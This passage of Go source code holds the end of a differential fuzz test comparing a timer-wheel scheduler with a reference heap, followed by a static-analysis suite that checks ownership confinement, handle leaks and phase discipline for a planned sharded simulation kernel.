	Schedule(delay time.Duration, fn func()) (cancel func())
	Run(until time.Duration)
}

// wheelAdapter narrows *Kernel to the driver surface.
type wheelAdapter struct{ k *Kernel }

func (w wheelAdapter) Now() time.Duration { return w.k.Now() }
func (w wheelAdapter) Schedule(delay time.Duration, fn func()) func() {
	h := w.k.Schedule(delay, "diff", fn)
	return h.Cancel
}
func (w wheelAdapter) Run(until time.Duration) {
	if err := w.k.Run(until); err != nil {
		panic(err)
	}
}

// runProgram interprets data as a schedule/cancel program against s and
// returns the execution log. Every decision depends only on the program
// bytes and the order events execute, so two observationally equivalent
// schedulers produce identical logs.
//
// Per event pair (d, c):
//   - d selects the delay class: ties (many events share a timestamp),
//     zero delays, negative delays (clamped), sparse delays spanning
//     several wheel levels, and far-future delays beyond wheelSpan.
//   - c bit 0: cancel an earlier event (chosen by c) right after
//     scheduling this one.
//   - c bit 1: from inside the callback, schedule a child event
//     (child delays include 0: same-tick batch refill).
//   - c bit 2: from inside the callback, cancel an event chosen by c —
//     exercising cancellation of already-queued events mid-dispatch.
func runProgram(s scheduler, data []byte) []string {
	var log []string
	var cancels []func()
	id := 0
	var schedule func(delay time.Duration, myID int, c byte)
	schedule = func(delay time.Duration, myID int, c byte) {
		cancels = append(cancels, s.Schedule(delay, func() {
			log = append(log, fmt.Sprintf("%d@%d", myID, s.Now()))
			if c&2 != 0 {
				id++
				child := id
				childDelay := time.Duration(c%5) * 333 * time.Nanosecond
				schedule(childDelay, child, c>>3)
			}
			if c&4 != 0 && len(cancels) > 0 {
				cancels[int(c)%len(cancels)]()
			}
		}))
	}
	for i := 0; i+1 < len(data); i += 2 {
		d, c := data[i], data[i+1]
		var delay time.Duration
		switch d % 8 {
		case 0, 1: // dense ties
			delay = time.Duration(d%4) * time.Microsecond
		case 2: // zero delay
			delay = 0
		case 3: // negative, clamped to now
			delay = -time.Duration(d) * time.Millisecond
		case 4, 5: // spans several wheel levels
			delay = time.Duration(d) * 977 * time.Microsecond
		case 6: // near the top wheel levels
			delay = time.Duration(d) * 11 * time.Minute
		default: // beyond wheelSpan: the overflow far-future bucket
			delay = time.Duration(wheelSpan)*time.Nanosecond + time.Duration(d)*time.Hour
		}
		id++
		schedule(delay, id, c)
		if c&1 != 0 && len(cancels) > 0 {
			cancels[int(c/2)%len(cancels)]()
		}
		// Interleave partial runs so programs exercise horizon stops,
		// re-entry, and scheduling relative to an advanced clock.
		switch c % 7 {
		case 0:
			s.Run(s.Now() + time.Duration(d)*time.Microsecond)
		case 1:
			s.Run(s.Now()) // zero-width run at the current instant
		}
	}
	// Drain everything, including far-future events, in two hops.
	s.Run(200 * time.Hour)
	s.Run(1000 * time.Hour)
	log = append(log, fmt.Sprintf("end@%d", s.Now()))
	return log
}

// diffOne runs one program against both schedulers and reports the first
// divergence.
func diffOne(t *testing.T, data []byte) {
	t.Helper()
	ref := runProgram(&refKernel{}, data)
	got := runProgram(wheelAdapter{NewKernel(1)}, data)
	if len(ref) != len(got) {
		t.Fatalf("log lengths diverge: wheel %d, heap %d\nprogram: %x", len(got), len(ref), data)
	}
	for i := range ref {
		if ref[i] != got[i] {
			t.Fatalf("logs diverge at %d: wheel %q, heap %q\nprogram: %x", i, got[i], ref[i], data)
		}
	}
}

// TestWheelMatchesReferenceHeap drives directed programs covering each
// delay class and cancellation pattern, then a corpus of random programs.
func TestWheelMatchesReferenceHeap(t *testing.T) {
	directed := [][]byte{
		{},                             // empty program
		{0, 0, 0, 0, 1, 0, 2, 0},       // dense ties, all dispatched in one batch
		{2, 2, 2, 2, 2, 2},             // zero-delay chains with nested children
		{7, 0, 15, 0, 23, 0},           // far-future only: overflow bucket + rescan
		{7, 2, 0, 2, 4, 2},             // far-future next to dense, with children
		{3, 5, 3, 5, 3, 5},             // negative delays, cancels mid-stream
		{4, 7, 5, 7, 6, 7, 4, 7},       // multi-level spread, cancel-heavy
		{6, 1, 6, 3, 6, 5, 6, 7},       // top-level buckets with every cancel bit
		{0, 6, 1, 6, 2, 6, 7, 6, 4, 6}, // children + mid-dispatch cancels everywhere
	}
	for i, p := range directed {
		p := p
		t.Run(fmt.Sprintf("directed%d", i), func(t *testing.T) { diffOne(t, p) })
	}

	rng := rand.New(rand.NewSource(42))
	for n := 0; n < 300; n++ {
		p := make([]byte, rng.Intn(120)*2)
		rng.Read(p)
		diffOne(t, p)
	}
}

// FuzzKernelSchedule is the smoke-fuzz entry wired into scripts/check.sh:
// the fuzzer explores schedule/cancel programs and the differential
// oracle rejects any divergence from the reference heap.
func FuzzKernelSchedule(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte{0, 0, 1, 0, 2, 0})
	f.Add([]byte{7, 2, 0, 2, 4, 2})
	f.Add([]byte{3, 5, 6, 7, 4, 1, 2, 6})
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 240 {
			data = data[:240]
		}
		diffOne(t, data)
	})
}
