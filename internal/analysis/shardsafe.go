package analysis

// The shardsafe rule family is the static contract the parallel-
// simulation arc (ROADMAP items 2–3) is written against. A conservative-
// PDES kernel partitions the run into ownership domains — per-shard
// kernels and RNGs, per-run networks, per-experiment Env trees, per-run
// observability state — and the byte-identity guarantee holds only while
// every owned value stays confined to the domain that created it. One
// leaked reference (a kernel stored in a package global, an Env captured
// by a worker goroutine, a Handle sent across shards) is a data race
// and a replay divergence that no test reliably reproduces. The three
// rules here catch those flows at vet time, before the sharding PRs
// write the code:
//
//   - shardescape: an interprocedural escape/ownership analysis. A
//     constructor annotated //xlf:owned(domain) declares that every
//     value it returns belongs to that domain; the rule tracks those
//     values through local bindings and cross-package helper calls and
//     reports any flow that lets one escape — stored into package-level
//     state, captured by (or passed to) a go statement, sent on a
//     channel, or returned from a package outside the domain's declared
//     holder set. Helpers that return an owned value from inside the
//     domain become producers themselves (computed to a fixed point),
//     and helpers that leak a parameter are reported at the call site
//     that handed them the owned value, with a deterministic BFS
//     witness chain like detflow's.
//
//   - shardhandle: generation-checked tokens (sim.Handle and anything
//     else configured) are safe against stale use precisely because a
//     stale Cancel is a silent no-op — which turns into a masked lost
//     cancellation the moment a handle crosses a goroutine or domain
//     boundary and races the slot's recycling. The rule flags handles
//     sent on channels, captured by or passed to go statements, and
//     stored in package-level state.
//
//   - shardphase: the barrier discipline of the window-synchronised
//     PDES design. //xlf:phase(NAME) annotates a function with the
//     phase it runs in; "window" is the barrier phase, the only one in
//     which cross-domain reads and writes are legal. A function in any
//     other phase must not reach — through any depth of unannotated
//     helpers — a function annotated with a different phase; barrier
//     functions may call anything. Violations are reported at the
//     boundary call site with a witness chain.
//
// All three honor //xlf:allow-shardsafe on the offending line (or the
// function's doc comment), and the driver's baseline/waiver workflow on
// top of that.

import (
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// OwnedMarker declares a constructor's results owned by a domain:
// //xlf:owned(domain).
const OwnedMarker = "xlf:owned"

// PhaseMarker declares the phase a function runs in: //xlf:phase(name).
const PhaseMarker = "xlf:phase"

// BarrierPhase is the privileged phase name: barrier-phase functions
// run at window boundaries and may touch any domain.
const BarrierPhase = "window"

// AllowShardSafeMarker waives a shardsafe-family finding on its line
// (or the whole function when placed in the doc comment).
const AllowShardSafeMarker = "xlf:allow-shardsafe"

// paramDomain is the sentinel domain used while computing a function's
// parameter-escape summary; the NUL prefix keeps it disjoint from any
// declarable domain name.
const paramDomain = "\x00param"

// TokenType names a generation-checked token type for the shardhandle
// rule: values of this (possibly pointered) named type must not cross
// goroutine, channel or package-level boundaries.
type TokenType struct {
	Pkg  string // declaring package import path
	Name string // type name
}

func (t TokenType) display() string {
	return t.Pkg[strings.LastIndex(t.Pkg, "/")+1:] + "." + t.Name
}

// shardSafe is the shared core behind the three analyzers: one
// directive scan, one producer fixed point and one parameter-escape
// fixed point over the module, all read-only once Prepare returns.
type shardSafe struct {
	// domains maps each declared ownership domain to the packages
	// (exact or "prefix/...") allowed to hold and return its values.
	domains map[string][]string
	tokens  []TokenType

	graph    *CallGraph
	prepared bool

	// owned maps a constructor's funcKey to the domain its directive
	// declares.
	owned map[string]string
	// producers maps funcKey → domain for functions that (transitively)
	// return an owned value from inside the domain's holder set.
	producers map[string]string
	// homes maps each domain to the packages its constructors live in,
	// used to type-filter multi-result bindings.
	homes map[string]map[string]bool
	// paramEsc maps funcKey → per-parameter escape description ("" when
	// the parameter stays confined). Receivers are parameter 0.
	paramEsc map[string][]string
	// paramDirect marks functions whose own body escapes a parameter,
	// for witness chains.
	paramDirect map[string]bool
	// phase maps funcKey → declared phase name.
	phase map[string]string
	// phaseReach maps funcKey → sorted keys of phase-annotated
	// functions reachable through unannotated helpers only.
	phaseReach map[string][]string
	// bad holds directive-grammar and configuration findings collected
	// during Prepare, keyed by package for per-package Check emission.
	bad map[*Package][]Finding
}

// NewShardSafeSuite builds the shardsafe family — shardescape,
// shardhandle and shardphase — on a shared call graph (nil builds a
// private one). domains maps ownership-domain names to their allowed
// holder packages; tokens lists the generation-checked token types.
func NewShardSafeSuite(domains map[string][]string, tokens []TokenType, g *CallGraph) []Analyzer {
	if g == nil {
		g = NewCallGraph()
	}
	core := &shardSafe{domains: domains, tokens: tokens, graph: g}
	return []Analyzer{
		&ShardEscape{core: core},
		&ShardHandle{core: core},
		&ShardPhase{core: core},
	}
}

// directiveArg parses one "//marker(arg)" doc-directive from a
// declaration's raw comment list. ok reports whether the marker was
// present at all; a present marker with a malformed or empty argument
// returns arg == "".
func directiveArg(fd *ast.FuncDecl, marker string) (arg string, ok bool) {
	if fd.Doc == nil {
		return "", false
	}
	for _, c := range fd.Doc.List {
		rest, found := strings.CutPrefix(c.Text, "//"+marker)
		if !found {
			continue
		}
		ok = true
		rest, found = strings.CutPrefix(rest, "(")
		if !found {
			continue
		}
		if i := strings.IndexByte(rest, ')'); i > 0 && validDirectiveName(rest[:i]) {
			return rest[:i], true
		}
	}
	return "", ok
}

// validDirectiveName accepts the lower-case word grammar of domain and
// phase names.
func validDirectiveName(s string) bool {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '-' || c == '_' {
			continue
		}
		return false
	}
	return len(s) > 0
}

// followShardSafe matches globalmut: every precisely-resolved executing
// edge counts; fallback guesses and bare references do not.
func followShardSafe(e CallEdge) bool { return !e.Fallback && e.Kind != EdgeRef }

// prepare runs the shared analysis once: directive scan, producer fixed
// point, parameter-escape fixed point, phase reachability.
func (s *shardSafe) prepare(pkgs []*Package) {
	if s.prepared {
		return
	}
	s.prepared = true
	s.graph.Build(pkgs)

	s.owned = make(map[string]string)
	s.producers = make(map[string]string)
	s.homes = make(map[string]map[string]bool)
	s.phase = make(map[string]string)
	s.bad = make(map[*Package][]Finding)

	domainNames := make([]string, 0, len(s.domains))
	for d := range s.domains {
		domainNames = append(domainNames, d)
	}
	sort.Strings(domainNames)

	for _, key := range s.graph.Keys() {
		fn := s.graph.Func(key)
		if fn.File.Test {
			continue
		}
		if domain, ok := directiveArg(fn.Decl, OwnedMarker); ok {
			switch {
			case domain == "":
				s.bad[fn.Pkg] = append(s.bad[fn.Pkg], fn.Pkg.finding("shardescape", fn.Decl.Pos(),
					"malformed //%s directive on %s; the grammar is //%s(domain)",
					OwnedMarker, fn.Decl.Name.Name, OwnedMarker))
			case s.domains[domain] == nil:
				s.bad[fn.Pkg] = append(s.bad[fn.Pkg], fn.Pkg.finding("shardescape", fn.Decl.Pos(),
					"unknown ownership domain %q on %s (declared domains: %s)",
					domain, fn.Decl.Name.Name, strings.Join(domainNames, ", ")))
			case !matchPackages(s.domains[domain], fn.Pkg.ImportPath):
				s.bad[fn.Pkg] = append(s.bad[fn.Pkg], fn.Pkg.finding("shardescape", fn.Decl.Pos(),
					"constructor %s lives outside ownership domain %q's holder set",
					fn.Decl.Name.Name, domain))
			default:
				s.owned[key] = domain
				s.producers[key] = domain
				if s.homes[domain] == nil {
					s.homes[domain] = make(map[string]bool)
				}
				s.homes[domain][fn.Pkg.ImportPath] = true
			}
		}
		if phase, ok := directiveArg(fn.Decl, PhaseMarker); ok {
			if phase == "" {
				s.bad[fn.Pkg] = append(s.bad[fn.Pkg], fn.Pkg.finding("shardphase", fn.Decl.Pos(),
					"malformed //%s directive on %s; the grammar is //%s(name)",
					PhaseMarker, fn.Decl.Name.Name, PhaseMarker))
			} else {
				s.phase[key] = phase
			}
		}
	}

	s.fixProducers()
	s.fixParamEscapes()
	s.fixPhases()
}

// fixProducers grows the producer set to a fixed point: a function
// inside a domain's holder set that returns an owned value is itself a
// source of owned values for its callers.
func (s *shardSafe) fixProducers() {
	for iter := 0; iter < 8; iter++ {
		changed := false
		for _, key := range s.graph.Keys() {
			fn := s.graph.Func(key)
			if fn.File.Test || s.producers[key] != "" {
				continue
			}
			w := s.newWalker(fn)
			var returns string
			ast.Inspect(fn.Decl.Body, func(n ast.Node) bool {
				if ret, ok := n.(*ast.ReturnStmt); ok && returns == "" {
					for _, res := range ret.Results {
						if d := w.exprDomain(res); d != "" {
							returns = d
							break
						}
					}
				}
				return true
			})
			if returns != "" && matchPackages(s.domains[returns], fn.Pkg.ImportPath) {
				s.producers[key] = returns
				changed = true
			}
		}
		if !changed {
			break
		}
	}
}

// fixParamEscapes computes, to a fixed point, which parameters a
// function lets escape (global store, channel send, go capture, or by
// handing them to a callee that escapes them).
func (s *shardSafe) fixParamEscapes() {
	s.paramEsc = make(map[string][]string)
	s.paramDirect = make(map[string]bool)
	for iter := 0; iter < 8; iter++ {
		changed := false
		for _, key := range s.graph.Keys() {
			fn := s.graph.Func(key)
			if fn.File.Test {
				continue
			}
			w := s.newWalker(fn)
			esc := w.paramEscapes()
			if !sameStrings(s.paramEsc[key], esc) {
				s.paramEsc[key] = esc
				changed = true
				for _, d := range esc {
					if d != "" && !strings.HasPrefix(d, "handed on to ") {
						s.paramDirect[key] = true
					}
				}
			}
		}
		if !changed {
			break
		}
	}
}

// fixPhases computes, for every function, the phase-annotated functions
// it reaches through unannotated helpers only — annotated intermediates
// cut propagation, their own gate covers them.
func (s *shardSafe) fixPhases() {
	direct := make(map[string][]string)
	for _, key := range s.graph.Keys() {
		fn := s.graph.Func(key)
		for _, e := range fn.Edges {
			if followShardSafe(e) && s.phase[e.Callee] != "" {
				direct[key] = append(direct[key], e.Callee)
			}
		}
	}
	for key, facts := range direct {
		direct[key] = dedupSorted(facts)
	}
	s.phaseReach = s.graph.Fixpoint(direct, func(e CallEdge) bool {
		return followShardSafe(e) && s.phase[e.Callee] == ""
	}, 0)
}

// calleeDomain reports the ownership domain of a resolved call's
// result, or "".
func (s *shardSafe) calleeDomain(key string) string { return s.producers[key] }

// ownedBind records one local variable bound to an owned value.
type ownedBind struct {
	domain string
	pos    token.Pos // binding site, for closure-capture classification
}

// shardWalker tracks owned bindings through one function body.
type shardWalker struct {
	core    *shardSafe
	fn      *GraphFunc
	pt      *pkgTypes
	imports map[string]string
	// bound maps ident objects to their owned binding.
	bound map[any]ownedBind
	// params holds the function's parameter objects (receiver first),
	// for the summary mode and call-site argument mapping.
	params []any
}

// newWalker builds a walker with the function's owned bindings already
// collected.
func (s *shardSafe) newWalker(fn *GraphFunc) *shardWalker {
	w := &shardWalker{
		core:    s,
		fn:      fn,
		pt:      s.graph.oracle.typesOf(fn.Pkg),
		imports: importMap(fn.File.AST),
		bound:   make(map[any]ownedBind),
	}
	if fn.Decl.Recv != nil && len(fn.Decl.Recv.List) > 0 {
		w.params = append(w.params, fieldKeys(w.pt, fn.Decl.Recv.List[0])...)
	}
	for _, f := range fn.Decl.Type.Params.List {
		w.params = append(w.params, fieldKeys(w.pt, f)...)
	}
	w.collectBindings()
	return w
}

// collectBindings seeds the bound map: results of owned-constructor and
// producer calls, plus plain copies of already-bound locals. Two passes
// let a copy made lexically before its source's binding (rare, but
// legal via goto) still resolve.
func (w *shardWalker) collectBindings() {
	for pass := 0; pass < 2; pass++ {
		changed := false
		ast.Inspect(w.fn.Decl.Body, func(n ast.Node) bool {
			as, ok := n.(*ast.AssignStmt)
			if !ok {
				return true
			}
			if len(as.Rhs) == 1 && len(as.Lhs) > 1 {
				// Multi-result form: h, err := New(...). Bind the result
				// names whose static type lives in the domain's home
				// package; without type info, bind them all.
				if d := w.callDomain(as.Rhs[0]); d != "" {
					for _, lhs := range as.Lhs {
						if id, ok := lhs.(*ast.Ident); ok && id.Name != "_" && w.typeInHome(id, d) {
							changed = w.bind(id, d, as.Pos()) || changed
						}
					}
				}
				return true
			}
			if len(as.Lhs) != len(as.Rhs) {
				return true
			}
			for i, rhs := range as.Rhs {
				id, ok := as.Lhs[i].(*ast.Ident)
				if !ok || id.Name == "_" {
					continue
				}
				if d := w.exprDomain(rhs); d != "" {
					changed = w.bind(id, d, as.Pos()) || changed
				}
			}
			return true
		})
		if !changed {
			break
		}
	}
}

// bind records an owned binding, reporting whether it was new.
func (w *shardWalker) bind(id *ast.Ident, domain string, pos token.Pos) bool {
	obj := identObj(w.pt, id)
	if obj == nil {
		return false
	}
	if _, ok := w.bound[obj]; ok {
		return false
	}
	w.bound[obj] = ownedBind{domain: domain, pos: pos}
	return true
}

// typeInHome reports whether the identifier's static named type is
// declared in one of the domain's constructor packages; with no type
// information it conservatively reports true.
func (w *shardWalker) typeInHome(id *ast.Ident, domain string) bool {
	if w.pt == nil {
		return true
	}
	obj := w.pt.info.Defs[id]
	if obj == nil {
		obj = w.pt.info.Uses[id]
	}
	if obj == nil || obj.Type() == nil {
		return true
	}
	t := obj.Type()
	for {
		ptr, ok := t.(*types.Pointer)
		if !ok {
			break
		}
		t = ptr.Elem()
	}
	named, ok := t.(*types.Named)
	if !ok || named.Obj().Pkg() == nil {
		return false
	}
	return w.core.homes[domain][named.Obj().Pkg().Path()]
}

// callDomain resolves a call expression to the ownership domain of its
// result, or "".
func (w *shardWalker) callDomain(e ast.Expr) string {
	call, ok := ast.Unparen(e).(*ast.CallExpr)
	if !ok {
		return ""
	}
	key, _, ok := w.core.graph.ResolveKey(w.fn.Pkg, w.fn.File, w.imports, call)
	if !ok {
		return ""
	}
	return w.core.calleeDomain(key)
}

// exprDomain reports the ownership domain an expression's value belongs
// to: a bound local, or a direct constructor/producer call.
func (w *shardWalker) exprDomain(e ast.Expr) string {
	switch e := ast.Unparen(e).(type) {
	case *ast.Ident:
		return w.bound[identObj(w.pt, e)].domain
	case *ast.UnaryExpr:
		if e.Op == token.AND {
			return w.exprDomain(e.X)
		}
	case *ast.CallExpr:
		return w.callDomain(e)
	}
	return ""
}

// escape is one confinement violation found while walking a body.
type escape struct {
	pos    token.Pos
	domain string // "" in parameter-summary mode rows
	desc   string
	// callee/chainFrom drive the witness rendering for via-call escapes.
	callee string
}

// escapes walks the body and collects every confinement violation of
// the currently-bound owned values. With summaryFor set, violations of
// that parameter object are recorded instead (parameter-summary mode).
func (w *shardWalker) escapes() []escape {
	var out []escape
	report := func(pos token.Pos, domain, desc, callee string) {
		out = append(out, escape{pos: pos, domain: domain, desc: desc, callee: callee})
	}
	ast.Inspect(w.fn.Decl.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.AssignStmt:
			if n.Tok == token.DEFINE || len(n.Lhs) != len(n.Rhs) {
				return true
			}
			for i, lhs := range n.Lhs {
				d := w.exprDomain(n.Rhs[i])
				if d == "" {
					continue
				}
				if v := packageLevelVar(w.pt, lhs); v != nil {
					report(n.Pos(), d, "stored into package-level var "+shortLock(v.Pkg().Path()+"."+v.Name()), "")
				}
			}
		case *ast.SendStmt:
			if d := w.exprDomain(n.Value); d != "" {
				report(n.Pos(), d, "sent on a channel", "")
			}
		case *ast.GoStmt:
			w.goEscapes(n, report)
		case *ast.ReturnStmt:
			for _, res := range n.Results {
				d := w.exprDomain(res)
				if d != "" && !matchPackages(w.core.domains[d], w.fn.Pkg.ImportPath) {
					report(n.Pos(), d, "returned past the domain boundary (package "+w.fn.Pkg.ImportPath+" is outside the holder set)", "")
				}
			}
		case *ast.CallExpr:
			w.callEscapes(n, report)
		}
		return true
	})
	sort.Slice(out, func(i, j int) bool {
		if out[i].pos != out[j].pos {
			return out[i].pos < out[j].pos
		}
		return out[i].desc < out[j].desc
	})
	return out
}

// goEscapes reports owned values handed to a go statement: spawned-call
// arguments and closure captures (a binding made outside the literal,
// referenced inside it).
func (w *shardWalker) goEscapes(gs *ast.GoStmt, report func(token.Pos, string, string, string)) {
	for _, arg := range gs.Call.Args {
		if d := w.exprDomain(arg); d != "" {
			report(gs.Pos(), d, "passed to a spawned goroutine", "")
		}
	}
	lit, ok := gs.Call.Fun.(*ast.FuncLit)
	if !ok {
		return
	}
	seen := make(map[any]bool)
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		obj := identObj(w.pt, id)
		b, bound := w.bound[obj]
		if !bound || seen[obj] || (b.pos >= lit.Pos() && b.pos < lit.End()) {
			return true
		}
		seen[obj] = true
		report(gs.Pos(), b.domain, "captured by a go statement's closure (via "+id.Name+")", "")
		return true
	})
}

// callEscapes reports owned arguments handed to callees whose summary
// says that parameter escapes.
func (w *shardWalker) callEscapes(call *ast.CallExpr, report func(token.Pos, string, string, string)) {
	key, _, ok := w.core.graph.ResolveKey(w.fn.Pkg, w.fn.File, w.imports, call)
	if !ok {
		return
	}
	esc := w.core.paramEsc[key]
	if len(esc) == 0 {
		return
	}
	c, recvExpr := resolveCall(w.pt, w.imports, w.fn.Pkg.ImportPath, call)
	args := call.Args
	if c.recv != "" && recvExpr != nil {
		args = append([]ast.Expr{recvExpr}, args...)
	}
	for i, arg := range args {
		if i >= len(esc) || esc[i] == "" {
			continue
		}
		if d := w.exprDomain(arg); d != "" {
			report(call.Pos(), d, esc[i], key)
		}
	}
}

// paramEscapes computes the function's parameter-escape summary: for
// each parameter (receiver first), a description of how the body lets
// it escape, or "".
func (w *shardWalker) paramEscapes() []string {
	if len(w.params) == 0 {
		return nil
	}
	// Rebind: parameters become the owned values under observation.
	saved := w.bound
	w.bound = make(map[any]ownedBind, len(w.params))
	for _, p := range w.params {
		if p != nil {
			w.bound[p] = ownedBind{domain: paramDomain, pos: w.fn.Decl.Pos()}
		}
	}
	// Copies of parameters propagate the observation.
	w.collectBindings()
	escs := w.escapes()
	w.bound = saved

	out := make([]string, len(w.params))
	for _, e := range escs {
		// Only escapes of the parameters themselves feed the summary;
		// owned values the body creates are reported at their own site.
		// Returning a parameter is not an escape the caller did not
		// intend; only the hard confinement breaks count here.
		if e.domain != paramDomain || strings.HasPrefix(e.desc, "returned past") {
			continue
		}
		desc := e.desc
		if e.callee != "" {
			desc = "handed on to " + FuncDisplay(e.callee)
		}
		// Attribute the escape to every parameter still bound at that
		// description; positional attribution is approximated by
		// marking all escaping parameters with the first description.
		for i, p := range w.params {
			if p != nil && out[i] == "" && w.paramReaches(p, e) {
				out[i] = desc
			}
		}
	}
	return out
}

// paramReaches reports whether the escape's expression chain involves
// the given parameter object. The walker's per-escape bookkeeping is
// positional, so this re-checks the site conservatively: any escape in
// a body marks the parameters that are bound there.
func (w *shardWalker) paramReaches(p any, e escape) bool {
	reached := false
	ast.Inspect(w.fn.Decl.Body, func(n ast.Node) bool {
		if reached {
			return false
		}
		if n == nil || n.Pos() != e.pos {
			return true
		}
		ast.Inspect(n, func(m ast.Node) bool {
			if id, ok := m.(*ast.Ident); ok && identObj(w.pt, id) == p {
				reached = true
				return false
			}
			return true
		})
		return false
	})
	return reached
}

// ShardEscape reports ownership-domain confinement violations — the
// escape half of the shardsafe family.
type ShardEscape struct{ core *shardSafe }

// Name implements Analyzer.
func (a *ShardEscape) Name() string { return "shardescape" }

// Doc implements Documented.
func (a *ShardEscape) Doc() string {
	return "values from //xlf:owned constructors must stay confined to their ownership domain: no package-level stores, go captures, channel sends, or returns past the holder set"
}

// Prepare implements ModuleAnalyzer.
func (a *ShardEscape) Prepare(pkgs []*Package) { a.core.prepare(pkgs) }

// Check implements Analyzer.
func (a *ShardEscape) Check(pkg *Package) []Finding {
	if !a.core.prepared {
		a.core.prepare([]*Package{pkg})
	}
	out := append([]Finding(nil), a.core.bad[pkg]...)
	allowed := make(map[*File]map[int]bool)
	for _, key := range a.core.graph.Keys() {
		fn := a.core.graph.Func(key)
		if fn.Pkg != pkg || fn.File.Test {
			continue
		}
		w := a.core.newWalker(fn)
		if len(w.bound) == 0 {
			continue
		}
		if allowed[fn.File] == nil {
			allowed[fn.File] = allowedLines(pkg.Fset, fn.File.AST, AllowShardSafeMarker)
		}
		waived := allowed[fn.File]
		for _, e := range w.escapes() {
			if waived[pkg.Fset.Position(e.pos).Line] {
				continue
			}
			if e.callee != "" {
				out = append(out, pkg.finding(a.Name(), e.pos,
					"call to %s lets the %s-owned argument escape (%s; %s); keep owned values inside their domain (or annotate //%s)",
					FuncDisplay(e.callee), e.domain, e.desc, a.witness(e.callee), AllowShardSafeMarker))
				continue
			}
			out = append(out, pkg.finding(a.Name(), e.pos,
				"%s-owned value escapes its domain: %s; keep owned values inside their domain (or annotate //%s)",
				e.domain, e.desc, AllowShardSafeMarker))
		}
	}
	return out
}

// witness renders the chain from a leaking callee to the function whose
// body performs the escape.
func (a *ShardEscape) witness(from string) string {
	chain := a.core.graph.Chain(from, func(k string) bool { return a.core.paramDirect[k] }, followShardSafe)
	if chain == nil {
		return "via " + FuncDisplay(from)
	}
	return "via " + displayChain(chain)
}

// ShardHandle reports generation-checked tokens crossing goroutine,
// channel or package-level boundaries.
type ShardHandle struct{ core *shardSafe }

// Name implements Analyzer.
func (a *ShardHandle) Name() string { return "shardhandle" }

// Doc implements Documented.
func (a *ShardHandle) Doc() string {
	return "generation-checked tokens (sim.Handle) must not cross goroutine or domain boundaries where a stale-generation no-op masks a lost cancellation"
}

// Prepare implements ModuleAnalyzer.
func (a *ShardHandle) Prepare(pkgs []*Package) { a.core.prepare(pkgs) }

// tokenOf reports the configured token type an expression carries, or
// the zero TokenType. Pointers to tokens count: the indirection does
// not change which slot generation the value is checked against.
func (a *ShardHandle) tokenOf(pt *pkgTypes, e ast.Expr) (TokenType, bool) {
	if pt == nil {
		return TokenType{}, false
	}
	tv, ok := pt.info.Types[e]
	if !ok || tv.Type == nil {
		return TokenType{}, false
	}
	t := tv.Type
	for {
		ptr, ok := t.(*types.Pointer)
		if !ok {
			break
		}
		t = ptr.Elem()
	}
	named, ok := t.(*types.Named)
	if !ok || named.Obj().Pkg() == nil {
		return TokenType{}, false
	}
	for _, tok := range a.core.tokens {
		if named.Obj().Name() == tok.Name && named.Obj().Pkg().Path() == tok.Pkg {
			return tok, true
		}
	}
	return TokenType{}, false
}

// Check implements Analyzer.
func (a *ShardHandle) Check(pkg *Package) []Finding {
	if !a.core.prepared {
		a.core.prepare([]*Package{pkg})
	}
	pt := a.core.graph.oracle.typesOf(pkg)
	if pt == nil || len(a.core.tokens) == 0 {
		return nil
	}
	var out []Finding
	for fi := range pkg.Files {
		file := &pkg.Files[fi]
		if file.Test {
			continue
		}
		allowed := allowedLines(pkg.Fset, file.AST, AllowShardSafeMarker)
		report := func(pos token.Pos, tok TokenType, how string) {
			if allowed[pkg.Fset.Position(pos).Line] {
				return
			}
			out = append(out, pkg.finding(a.Name(), pos,
				"%s %s; a stale-generation no-op would mask the lost cancellation — transfer intent, not the token (or annotate //%s)",
				tok.display(), how, AllowShardSafeMarker))
		}
		ast.Inspect(file.AST, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.SendStmt:
				if tok, ok := a.tokenOf(pt, n.Value); ok {
					report(n.Pos(), tok, "sent on a channel")
				}
			case *ast.GoStmt:
				for _, arg := range n.Call.Args {
					if tok, ok := a.tokenOf(pt, arg); ok {
						report(n.Pos(), tok, "passed to a spawned goroutine")
					}
				}
				if lit, ok := n.Call.Fun.(*ast.FuncLit); ok {
					a.captures(pt, lit, func(tok TokenType, name string) {
						report(n.Pos(), tok, "captured by a go statement's closure (via "+name+")")
					})
				}
			case *ast.AssignStmt:
				if n.Tok == token.DEFINE || len(n.Lhs) != len(n.Rhs) {
					return true
				}
				for i, lhs := range n.Lhs {
					tok, ok := a.tokenOf(pt, n.Rhs[i])
					if !ok {
						continue
					}
					if v := packageLevelVar(pt, lhs); v != nil {
						report(n.Pos(), tok, "stored into package-level var "+shortLock(v.Pkg().Path()+"."+v.Name()))
					}
				}
			}
			return true
		})
	}
	return out
}

// captures invokes fn for each token-typed variable declared outside
// the literal but referenced inside it.
func (a *ShardHandle) captures(pt *pkgTypes, lit *ast.FuncLit, fn func(TokenType, string)) {
	seen := make(map[any]bool)
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		obj, isVar := pt.info.Uses[id].(*types.Var)
		if !isVar || seen[obj] || obj.Pos() == token.NoPos {
			return true
		}
		if obj.Pos() >= lit.Pos() && obj.Pos() < lit.End() {
			return true
		}
		if tok, ok := a.tokenOf(pt, id); ok {
			seen[obj] = true
			fn(tok, id.Name)
		}
		return true
	})
}

// ShardPhase enforces the //xlf:phase barrier discipline.
type ShardPhase struct{ core *shardSafe }

// Name implements Analyzer.
func (a *ShardPhase) Name() string { return "shardphase" }

// Doc implements Documented.
func (a *ShardPhase) Doc() string {
	return "//xlf:phase-annotated functions must not reach functions of a different phase; only barrier-phase (window) code may cross"
}

// Prepare implements ModuleAnalyzer.
func (a *ShardPhase) Prepare(pkgs []*Package) { a.core.prepare(pkgs) }

// Check implements Analyzer.
func (a *ShardPhase) Check(pkg *Package) []Finding {
	if !a.core.prepared {
		a.core.prepare([]*Package{pkg})
	}
	var out []Finding
	allowed := make(map[*File]map[int]bool)
	for _, key := range a.core.graph.Keys() {
		fn := a.core.graph.Func(key)
		phase := a.core.phase[key]
